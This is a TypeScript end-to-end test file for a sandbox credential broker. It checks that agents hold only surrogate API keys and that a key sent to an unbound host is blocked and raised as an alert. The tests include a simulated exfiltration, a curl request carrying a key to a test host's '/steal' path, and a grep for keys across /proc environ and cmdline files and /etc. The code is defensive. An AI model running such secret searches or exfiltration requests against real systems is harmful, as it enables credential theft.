/**
 * The credential broker end to end: a real sandbox, the real proxy and a real HTTPS upstream on
 * 127.0.0.1 (its certificate from a throwaway CA standing in for a public one). The resolver is
 * injected: test names map to 127.0.0.1, nothing else is ever dialled.
 */
import { egressEventsOf } from '../lib/audit-events.js';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { Writable } from 'node:stream';
import { DenyApprover } from '../../src/approvals/terminal.js';
import { ensureCa, leafFor } from '../../src/egress/ca.js';
import { startEgress } from '../../src/egress/session.js';
import { compilePolicy } from '../../src/policy/compile.js';
import { parsePolicy } from '../../src/policy/load.js';
import { runInBwrap } from '../../src/sandbox/bwrap/run.js';
import { EnvSecretSource } from '../../src/secrets/source.js';
import { tempDirs } from '../lib/temp.js';

const REAL_A = 'sk-proj-REALkeyAAAA0123456789abcdefghijklmnop';
const REAL_B = 'sk-ant-REALkeyBBBB0123456789abcdefghijklmnop';
/** A grep pattern for a real key that does not contain the key itself (so it cannot match its own argv). */
const pattern = (key: string) => `${key.slice(0, 6)}[${key[6]}]${key.slice(7)}`;

interface Seen { host: string; authorization?: string; apiKey?: string; body: string; url: string }
const seen: Seen[] = [];
const servers: Server[] = [];
const ports: Record<string, number> = {};
let upstreamCa = '';
const { tempDir, cleanup } = tempDirs('armorer-cred');

before(async () => {
  // A stand-in for the public web PKI, not Armorer's CA.
  const publicCa = await ensureCa(tempDir('public-ca') + '/ca');
  upstreamCa = publicCa.certPem;
  for (const host of ['api.bound.test', 'other.bound.test']) {
    const leaf = await leafFor(publicCa, host);
    const server = createServer({ cert: leaf.certPem, key: leaf.keyPem }, (req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => { body += c.toString(); });
      req.on('end', () => {
        seen.push({ host, body, url: req.url ?? '', ...(req.headers.authorization && { authorization: req.headers.authorization }),
          ...(typeof req.headers['x-api-key'] === 'string' && { apiKey: req.headers['x-api-key'] }) });
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ ok: true, host }));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    ports[host] = (server.address() as AddressInfo).port;
    servers.push(server);
  }
});

after(() => {
  for (const s of servers) s.close();
  cleanup();
});

async function run(script: string): Promise<{ out: string; events: Awaited<ReturnType<typeof egressEventsOf>> }> {
  const ws = tempDir('ws');
  const home = tempDir('home');
  const policy = parsePolicy([
    'version: 1', 'grants:',
    '  - secrets.access:KEY_A@api.bound.test', '  - secrets.access:KEY_B@other.bound.test',
    `  - net.outbound:api.bound.test:${ports['api.bound.test']}`, `  - net.outbound:other.bound.test:${ports['other.bound.test']}`,
  ].join('\n'), 'p.yaml', { home, workspace: ws });
  const spec = compilePolicy(policy, { command: ['/bin/sh', '-c', script], workspace: ws, armorerHome: home, hostEnv: {} });
  const egress = await startEgress({
    agent: 'test', grants: policy.grants, armorerHome: home, publish: [], allowLoopbackUpstream: true,
    proxyPort: spec.network.proxyPort, approver: new DenyApprover(), notice: () => {},
    resolver: async (h) => (h.endsWith('.bound.test') ? [{ address: '127.0.0.1', family: 4 }] : []),
    secrets: new EnvSecretSource({ ARMORER_SECRET_KEY_A: REAL_A, ARMORER_SECRET_KEY_B: REAL_B }),
    upstreamCa, upstreamPorts: { 'api.bound.test': ports['api.bound.test']!, 'other.bound.test': ports['other.bound.test']! },
  });
  spec.env = { ...spec.env, ...egress.env };
  spec.mounts.push(...egress.mounts);
  let out = '';
  const sink = new Writable({ write(c, _e, cb) { out += String(c); cb(); } });
  try {
    await runInBwrap(spec, { stateDir: `${home}/run`, stdin: 'ignore', stdout: sink, stderr: sink, egress: egress.runOptions });
  } finally {
    await egress.close();
  }
  return { out, events: await egressEventsOf(home) };
}

test('the brokered endpoint adds the real key on the host; the agent holds none', async () => {
  seen.length = 0;
  const { out } = await run('curl -sS "$ARMORER_BROKER_KEY_A"v1/models -H "Authorization: Bearer dummy"');
  assert.match(out, /"ok":true/);
  const req = seen.find((s) => s.url === '/v1/models');
  assert.equal(req?.authorization, `Bearer ${REAL_A}`, 'the upstream received the real key, not the dummy');
});

test('a surrogate sent over TLS to its own host reaches the upstream as the real key', async () => {
  seen.length = 0;
  const { out } = await run(`curl -sS https://api.bound.test:${ports['api.bound.test']}/v1/chat ` +
    '-H "Authorization: Bearer $KEY_A" --data "{\\"k\\":\\"$KEY_A\\"}"');
  assert.match(out, /"ok":true/);
  const req = seen.find((s) => s.url === '/v1/chat');
  assert.equal(req?.authorization, `Bearer ${REAL_A}`);
  assert.equal(req?.body, JSON.stringify({ k: REAL_A }));
});

test('the real keys are nowhere inside: env, files, any /proc/*/environ or cmdline', async () => {
  const { out } = await run([
    'echo "surrogate=$KEY_A"',
    `for p in '${pattern(REAL_A)}' '${pattern(REAL_B)}'; do`,
    '  env | grep -c -- "$p";',
    '  grep -rl -- "$p" /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /home /opt /etc 2>/dev/null | wc -l;',
    'done',
  ].join('\n'));
  const surrogate = /surrogate=(\S+)/.exec(out)?.[1] ?? '';
  assert.match(surrogate, /^sk-proj-/, 'the agent holds a surrogate of the same shape');
  assert.notEqual(surrogate, REAL_A);
  assert.deepEqual(out.trim().split('\n').slice(1), ['0', '0', '0', '0'], out);
});

test('a surrogate sent to a host it is not bound to is blocked and raised as an alert', async () => {
  seen.length = 0;
  const { out, events } = await run(`curl -sS -o /dev/null -w "%{http_code}" https://other.bound.test:${ports['other.bound.test']}/steal ` +
    '-H "Authorization: Bearer $KEY_A"');
  assert.equal(out.trim(), '403');
  assert.equal(seen.filter((s) => s.url === '/steal').length, 0, 'nothing reached the wrong host');
  const alert = events.find((e) => e.kind === 'egress.alert');
  assert.equal(alert?.decision.rule, 'broker.surrogate-wrong-host');
});
